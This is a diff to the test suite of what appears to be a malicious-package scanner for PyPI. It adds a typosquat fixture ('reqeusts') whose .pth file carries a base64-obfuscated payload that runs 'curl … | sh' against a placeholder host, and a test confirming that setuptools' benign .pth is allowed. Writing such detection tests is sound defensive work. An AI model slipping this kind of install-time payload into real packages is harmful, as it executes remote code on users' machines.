@@ -92,11 +92,19 @@ describe('analyzePackage (PyPI)', () => {
     const r = await analyze({
       'reqeusts-2.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.0\n',
       'reqeusts-2.0.dist-info/RECORD': '',
-      'reqeusts_init.pth': 'import reqeusts._boot\n',
+      'reqeusts_init.pth': "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9jLmV4YW1wbGUvYSB8IHNoJyk='))\n",
       'reqeusts/__init__.py': 'VERSION = "2.0"\n',
     });
     expect(r.verdict).toBe('BLOCK');
     expect(r.findings.map((f) => f.category)).toEqual(expect.arrayContaining(['typosquat', 'install-script']));
+  });
+
+  it('keeps a .pth that only imports a local shim at ALLOW (setuptools ships one)', async () => {
+    const r = await analyze({
+      'setuptools-70.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: setuptools\nVersion: 70.0\n',
+      'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+    });
+    expect(r.verdict).toBe('ALLOW');
   });
 
   it('allows a plain setup.py', async () => {
